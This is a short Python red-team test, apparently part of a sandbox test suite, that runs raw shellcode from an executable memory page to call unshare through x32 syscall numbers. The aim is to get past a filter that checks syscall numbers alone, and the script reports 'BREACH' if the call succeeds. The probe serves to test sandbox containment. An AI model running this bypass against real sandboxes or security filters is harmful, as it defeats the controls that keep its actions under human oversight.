# /// redteam
# category = "kernel"
# allowed = ["passed", "security_violation", "runtime_error"]
# limits = { wall_s = 4.0 }
# ///
"""Makes a system call by the numbers of another instruction set, past a filter that checks numbers alone."""

import ctypes
import platform

libc = ctypes.CDLL(None, use_errno=True)
MACHINE = platform.machine()


def call(x86_64, aarch64, *arguments):
    """Gives the result of a raw system call; -1 if it failed."""
    number = {"x86_64": x86_64, "aarch64": aarch64}[MACHINE]
    words = [a if not isinstance(a, int) else ctypes.c_long(a) for a in arguments]
    return libc.syscall(ctypes.c_long(number), *words)


import mmap

if MACHINE != "x86_64":
    print("contained")
else:
    import os

    # mov eax, 0x40000000 + unshare; syscall; ret: the x32 numbers
    code = bytes.fromhex("b810010040bf000000100f05c3")
    area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    result = ctypes.CFUNCTYPE(ctypes.c_long)(address)()
    print("BREACH x32 unshare" if result == 0 else "contained")
